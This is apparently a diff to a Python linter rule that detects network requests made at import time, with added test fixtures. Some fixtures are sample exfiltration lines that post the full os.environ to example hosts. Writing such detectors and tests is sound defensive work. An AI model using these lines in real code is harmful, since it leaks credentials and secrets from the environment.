@@ -97,7 +97,7 @@ class NetworkChecker(PythonChecker):
         call = sink.call
         label = f"{self.context.code(call.func)}()"
         destination = self.flow.destination(sink)
-        where = self._import_time(call)
+        where = self._import_time(call) if sink.spec.connects else None
         if where and not self._local_lookup(sink, destination):
             self.report(call, "BDL401", f"{label} runs {where}: every import (or install, or test run) makes "
                         "this network request without anyone calling it")
@@ -412,7 +412,7 @@ class NetworkChecker(PythonChecker):
                 current = self.stack[-1]
                 sink = flow.sink_of(node)
                 shell = flow.shell_call(node) if sink is None else None
-                if sink is not None and id(current) not in direct:
+                if sink is not None and sink.spec.connects and id(current) not in direct:
                     direct[id(current)] = f"{checker.context.code(node.func)}(), line {flow.line(node)}"
                 elif shell is not None and id(current) not in direct:
                     uses = analyse_command(flow.shell_command(shell[1])).network
@@ -515,6 +515,10 @@ class NetworkChecker(PythonChecker):
         Valid('from urllib3 import PoolManager\n_POOL = PoolManager()\n'
               'def request(method, url, **kw):\n    return _POOL.request(method, url, **kw)\n',
               "BDL401", path="pkg/__init__.py"),
+        # clients built at import time connect on their first request, not when constructed
+        Valid('import http.client, xmlrpc.client, httpx, requests\nCONN = http.client.HTTPSConnection("api.example.com")\n'
+              'RPC = xmlrpc.client.ServerProxy("https://rpc.example.com/RPC2")\nCLIENT = httpx.Client(base_url="https://api.'
+              'example.com")\nSESSION = requests.Session()\n', "BDL401"),
         # a local object with a post method; private IP address
         Valid('class Board:\n    def post(self, url, json=None): ...\nrequests = Board()\n'
               'requests.post("https://x.example", json=dict(__import__("os").environ))\n', "BDL402"),
@@ -540,6 +544,9 @@ class NetworkChecker(PythonChecker):
     INVALID = [
         # BDL401: module level, class body, decorator, default argument, through a local function
         Invalid('import requests\nrequests.post("https://metrics.example/ping", json={"v": 1})\n', "BDL401", 2),
+        # ... but using one at import time sends
+        Invalid('import http.client\nCONN = http.client.HTTPSConnection("api.example.com")\nCONN.request("GET", "/v1/hello")\n',
+                "BDL401", 3),
         # the import hidden in a compound statement's line, or bound to another name
         Invalid('import os\ntry: import requests\nexcept ImportError: pass\n'
                 'requests.post("https://c.example/x", data=dict(os.environ))\n', "BDL402", 4),
